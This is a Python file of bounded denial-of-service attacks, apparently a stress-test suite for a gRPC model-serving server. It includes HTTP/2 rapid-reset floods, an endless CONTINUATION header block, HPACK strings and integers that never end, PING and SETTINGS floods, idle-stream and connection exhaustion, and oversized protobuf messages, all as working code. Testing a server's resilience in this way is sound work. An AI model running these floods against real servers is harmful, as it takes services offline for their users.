"""The attacks, each bounded in connections, bytes and time.

    attacks.py NAME ADDRESS SECONDS

runs one against a server, holds what it has opened until the seconds are over or its input ends, and
prints a note on one line. Each is a function of the address and of the time until which it may go
on; its first line of documentation is its line in the table.
"""

import os
import select
import struct
import sys
import threading
import time

import grpc

import messages as wire
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_FRAME, PING, Closed,
                   Connection, call_headers, frame, grpc_message, hpack_integer, literal)

MIB = 1 << 20

CHANNEL = [("grpc.enable_http_proxy", 0), ("grpc.use_local_subchannel_pool", 1),
           ("grpc.max_receive_message_length", -1)]

# The model that everybody uses: small for honest callers, large where an answer is to be.
SMALL, LARGE = "small", "large"


def calls(connection, path, payload, count):
    for _ in range(count):
        connection.small_message(connection.start(path), payload, end=True)


# Answers that nobody takes.


def unread_parameters(address, until):
    """100 x GetParameters of 60 MB that are never read"""
    connection = Connection(address, reads=False, window=65535)
    calls(connection, wire.GET_PARAMETERS, wire.get_parameters(LARGE), 100)
    return [connection], "1 connection"


def unread_parameters_of_many(address, until):
    """the same on 10 connections, 10 each"""
    connections = [Connection(address, reads=False, window=65535) for _ in range(10)]
    for connection in connections:
        calls(connection, wire.GET_PARAMETERS, wire.get_parameters(LARGE), 10)
    return connections, "10 connections"


def unread_forward(address, until):
    """100 x Forward of 16 MB, never read"""
    connection = Connection(address, reads=True, window=0)
    request = wire.predict(LARGE, 256, 3840)
    for _ in range(100):
        connection.message(connection.start(wire.FORWARD), request, end=True)
    return [connection], "window 0"


def unread_predictions(address, until):
    """100 x Predict of 60 MB whose answers of 15 MB are never read"""
    rows = 60 * MIB // 16
    request = wire.predict(SMALL, rows, 4)
    connections = []
    for _ in range(4):
        connection = Connection(address, reads=True, window=0)
        connections.append(connection)
        try:
            for _ in range(25):
                if time.monotonic() > until:
                    break
                connection.message(connection.start(wire.PREDICT), request, end=True)
        except (Closed, OSError):
            pass
    return connections, "4 connections, window 0"


def unread_lists(address, until):
    """4 x 1000 ListModels of 1000 models, never read"""
    for i in range(40):
        setup = Connection(address)
        calls(setup, wire.CREATE, wire.create(f"m{i}", 4, [1] * 200), 1)
        time.sleep(0.02)
    connections = [Connection(address, reads=False, window=0) for _ in range(4)]
    for connection in connections:
        calls(connection, wire.LIST, b"", 1000)
    return connections, "each 400 kB"


def unread_backups(address, until):
    """20 x Backup, never read"""
    connection = Connection(address, reads=False, window=65535)
    calls(connection, wire.BACKUP, b"", 20)
    return [connection], ""


def unread_reflection(address, until):
    """reflection asked 20,000 times on 20 streams, never read"""
    connection = Connection(address, reads=False, window=0)
    streams = [connection.start(wire.REFLECTION) for _ in range(20)]
    request = wire.block(4, "descent.v1.ModelService")
    try:
        for _ in range(1000):
            for stream in streams:
                connection.small_message(stream, request)
    except (Closed, OSError):
        pass
    return [connection], ""


# Requests that are larger than they look.


def kept_messages(address, until):
    """4 Train streams that stop behind a batch of 57 MiB of varints"""
    rows = 57 * MIB // 5

    def ints(columns):
        return (wire.number(1, wire.INT64) + wire.block(2, wire.varint(rows) + wire.varint(columns)) +
                wire.block(6, wire.block(1, b"\1" * (rows * columns))))

    batch = wire.block(1, ints(4)) + wire.block(2, ints(1))
    connections = []
    for i in range(4):
        connection = Connection(address)
        connections.append(connection)
        stream = connection.start(wire.TRAIN)
        connection.small_message(stream, wire.train_start(SMALL, f"kept {i}"))
        connection.message(stream, wire.block(2, wire.number(1, 1) + wire.block(2, batch)))
    return connections, f"{sum(connection.ended for connection in connections)} ended"


def kept_starts(address, until):
    """8 Evaluate streams whose first message is 57 MiB of varints"""
    ints = wire.number(1, wire.INT64) + wire.block(6, wire.block(1, b"\1" * (57 * MIB)))
    message = wire.block(1, SMALL) + wire.block(2, wire.block(1, ints))
    connections = []
    for _ in range(8):
        connection = Connection(address)
        connections.append(connection)
        connection.message(connection.start(wire.EVALUATE), message)
    return connections, "57 MiB each"


def many_fields(address, until):
    """8 messages of 63 MiB of two-byte fields"""
    return fields_of(address, wire.SET_PARAMETERS, b"\x12\x00", until)


def many_strings(address, until):
    """8 messages of 63 MiB of empty strings"""
    return fields_of(address, wire.GRADIENT, b"\x3a\x00", until)


def many_unknown_fields(address, until):
    """8 messages of 63 MiB of unknown fields"""
    return fields_of(address, wire.PREDICT, b"\x78\x01", until)


def fields_of(address, path, field, until):
    message = wire.block(1, SMALL) + field * (63 * MIB // 2 - 8)
    connections = [Connection(address) for _ in range(8)]

    def send(connection):
        try:
            connection.message(connection.start(path), message, end=True)
        except Closed:
            pass

    for connection in connections:
        threading.Thread(target=send, args=[connection], daemon=True).start()
    answered = 0
    while time.monotonic() < until and answered < 8:
        answered = sum(connection.ended for connection in connections)
        time.sleep(0.05)
    return connections, f"{answered} of 8 answered"


def malformed(address, until):
    """1000 requests that are no messages, to every method"""
    connection = Connection(address)
    for path in (wire.CREATE, wire.LIST, wire.PREDICT, wire.FORWARD, wire.TRAIN, wire.EVALUATE,
                 wire.BACKUP, wire.HEALTH_CHECK, wire.HEALTH_WATCH, wire.REFLECTION) * 100:
        connection.small_message(connection.start(path), b"\xff\xff\xff", end=True)
    return [connection], ""


# Streams that do nothing.


def idle_streams(address, until, path=wire.TRAIN, connections=68):
    """68,000 Train streams that say nothing"""
    held = []
    opened = 0
    for _ in range(connections):
        if time.monotonic() > until:
            break
        connection = Connection(address)
        held.append(connection)
        headers = call_headers(path)
        try:
            for _ in range(10):
                block = b"".join(
                    frame(HEADERS, END_HEADERS, connection.next_stream + 2 * i, headers)
                    for i in range(100))
                connection.next_stream += 200
                connection.send(block)
                opened += 100
        except Closed:
            pass
    return held, f"{opened} opened"


def idle_evaluations(address, until):
    """68,000 Evaluate streams that say nothing"""
    return idle_streams(address, until, wire.EVALUATE)


def idle_unary(address, until):
    """68,000 Predict calls without a message"""
    return idle_streams(address, until, wire.PREDICT)


def idle_watches(address, until):
    """5,000 health watches"""
    held = []
    for _ in range(5):
        connection = Connection(address)
        held.append(connection)
        calls(connection, wire.HEALTH_WATCH, b"", 1000)
    return held, ""


def idle_reflection(address, until):
    """20 reflection streams that say nothing"""
    connection = Connection(address)
    for _ in range(20):
        connection.start(wire.REFLECTION)
    return [connection], ""


def idle_connections(address, until):
    """3,000 connections that say nothing"""
    import socket
    host, port = address.rsplit(":", 1)
    held = []
    try:
        while len(held) < 3000 and time.monotonic() < until:
            held.append(socket.create_connection((host, int(port)), timeout=5))
    except OSError:
        pass
    return held, f"{len(held)} opened"


def descriptors(address, until):
    """200 connections to a server that may have 100 files, closed again after 3 s"""
    held = []
    try:
        for _ in range(200):
            held.append(Connection(address))
    except OSError as error:
        note = f"{len(held)} accepted, then {error}"
    else:
        note = "200 connected"
    time.sleep(3)
    for connection in held:
        connection.close()
    return [], note


# Floods of frames.


def flood(address, until, make, connections, most_bytes, reads=True):
    """Sends what `make(connection)` returns, again and again."""
    held = []
    for _ in range(connections):
        held.append(Connection(address, reads=reads))
    sent = 0
    alive = list(held)
    begun = time.monotonic()
    while alive and sent < most_bytes and time.monotonic() < until:
        for connection in list(alive):
            try:
                data = make(connection)
                connection.send(data)
                sent += len(data)
            except (Closed, OSError):
                alive.remove(connection)
    return held, (f"{sent / 1e6:.0f} MB in {time.monotonic() - begun:.0f} s, "
                  f"{len(held) - len(alive)} of {len(held)} cut off")


def resets(connection, path=wire.PREDICT):
    headers = call_headers(path)
    first = connection.next_stream
    connection.next_stream += 1000
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, headers) +
        frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(first, first + 1000, 2))


def rapid_reset(address, until):
    """148,000 calls that are reset as they begin"""
    return flood(address, until, resets, 8, 148_000 * 190)


def rapid_reset_of_streams(address, until):
    """148,000 Train streams that are reset as they begin"""
    return flood(address, until, lambda c: resets(c, wire.TRAIN), 8, 148_000 * 190)


def continuation(address, until):
    """a header block without end: CONTINUATION of 1.2 GB"""
    return endless_headers(address, until, frame(CONTINUATION, 0, 1, b"v" * MAX_FRAME) * 16,
                           1200 * MIB)


def endless_headers(address, until, more, most_bytes):
    """Begins a header whose value is a gigabyte, and goes on with frames of it."""
    begun = set()

    def make(connection):
        if connection in begun:
            return more
        begun.add(connection)
        block = call_headers(wire.PREDICT) + b"\0\1x" + hpack_integer(1 << 30, 7)
        return frame(HEADERS, 0, 1, block)

    return flood(address, until, make, 4, most_bytes)


def hpack_strings(address, until):
    """headers whose strings never end, in frames of one byte"""
    return endless_headers(address, until, frame(CONTINUATION, 0, 1, b"v") * 4096, 34 * MIB)


def hpack_varints(address, until):
    """header integers that never end"""
    state = set()

    def make(connection):
        if connection not in state:
            state.add(connection)
            connection.filled = connection.next_stream
            return frame(HEADERS, 0, connection.filled, call_headers(wire.PREDICT) + b"\0\x7f")
        return frame(CONTINUATION, 0, connection.filled, b"\x80") * 4096

    return flood(address, until, make, 4, 34 * MIB)


def empty_data(address, until):
    """empty DATA frames on two connections"""
    state = set()

    def make(connection):
        if connection not in state:
            state.add(connection)
            connection.filled = connection.start(wire.TRAIN)
        return frame(DATA, 0, connection.filled) * 7000

    return flood(address, until, make, 2, 600 * MIB)


def empty_messages(address, until):
    """empty messages on four Train streams"""
    state = set()

    def make(connection):
        if connection not in state:
            state.add(connection)
            connection.filled = connection.start(wire.EVALUATE)
            return b""
        return frame(DATA, 0, connection.filled, grpc_message(b"") * 100)

    return flood(address, until, make, 4, 100 * MIB)


def pings(address, until):
    """pings"""
    return flood(address, until, lambda _: frame(PING, 0, 0, b"hostile!") * 3000, 2, 200 * MIB)


def settings(address, until):
    """SETTINGS"""
    return flood(address, until, lambda _: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 3000, 2,
                 200 * MIB)


def small_calls(address, until):
    """headers of calls that no method answers"""
    def make(connection):
        headers = call_headers("/no.such/Method")
        first = connection.next_stream
        connection.next_stream += 200
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)
                        for stream in range(first, first + 200, 2))

    return flood(address, until, make, 4, 30 * MIB)


# Valid calls that ask for a lot.


def call_in_turn(address, method, requests, until):
    """Calls one after another on a connection of its own; how many were answered and refused."""
    answered = refused = 0
    with grpc.insecure_channel(address, CHANNEL) as channel:
        call = channel.unary_unary(method)
        for request in requests:
            if time.monotonic() > until:
                break
            try:
                call(request, timeout=60)
                answered += 1
            except grpc.RpcError:
                refused += 1
    return answered, refused


def remembered_models(address, until):
    """300 deep models created and deleted with request ids"""
    made = 0
    for i in range(300):
        create = wire.create("deep", 3, [3] * 20_000) + wire.block(2, f"create {i}")
        made += call_in_turn(address, wire.CREATE, [create], until)[0]
        delete = wire.block(1, "deep") + wire.block(2, f"delete {i}")
        call_in_turn(address, wire.DELETE, [delete], until)
    return [], f"{made} made"


def large_answers(address, until):
    """200 x Forward whose answer would be 940 MB"""
    call_in_turn(address, wire.CREATE, [wire.create("wide", 10, [30_000])], until)
    request = wire.predict("wide", 2600, 10)
    answered, refused = call_in_turn(address, wire.FORWARD, [request] * 200, until)
    return [], f"{answered} answered, {refused} refused"


def short_sessions(address, until):
    """6,000 training sessions that apply nothing, then one of an honest trainer"""
    with grpc.insecure_channel(address, CHANNEL) as channel:
        train = channel.stream_stream(wire.TRAIN)

        def opens(session):
            try:
                return next(train(iter([wire.train_start(SMALL, session)]), timeout=20)) != b""
            except grpc.RpcError:
                return False

        opened = 0
        for i in range(6000):
            if time.monotonic() > until - 2:
                break
            opened += opens(f"short {i}")
        return [], f"{opened} opened, honest one {'served' if opens('honest') else 'REFUSED'}"


def heavy_gradients(address, until):
    """16 callers of gradients of a second, beside predictions of another model"""
    call_in_turn(address, wire.CREATE, [wire.create("heavy", 1000, [4000, 4000, 10]),
                                        wire.create("other", 200, [300, 300, 10])], until)
    gradient = (wire.block(1, "heavy") + wire.block(2, wire.floats([1000, 1000])) +
                wire.block(3, wire.floats([1000, 10])) + wire.number(8, 1))
    callers = [threading.Thread(target=call_in_turn, daemon=True,
                                args=(address, wire.GRADIENT, [gradient] * 1000, until))
               for _ in range(16)]
    for caller in callers:
        caller.start()
    time.sleep(2)
    predict, taken = wire.predict("other", 64, 200), []
    while time.monotonic() < until - 1:
        begun = time.monotonic()
        call_in_turn(address, wire.PREDICT, [predict], until)
        taken.append(time.monotonic() - begun)
    taken.sort()
    return callers, (f"{len(taken)} predictions of 64 rows: median "
                     f"{taken[len(taken) // 2] * 1e3:.1f} ms, longest {taken[-1] * 1e3:.0f} ms")


def main(name, address, seconds):
    until = time.monotonic() + float(seconds)
    try:
        held, note = globals()[name](address, until)
    except (Closed, OSError) as error:
        held, note = [], f"cut off: {error}"
    print(note, flush=True)
    # Hold what is open until the driver closes our input, or the time is over.
    select.select([sys.stdin], [], [], max(0, until - time.monotonic()))
    del held
    os._exit(0)


if __name__ == "__main__":
    main(*sys.argv[1:])
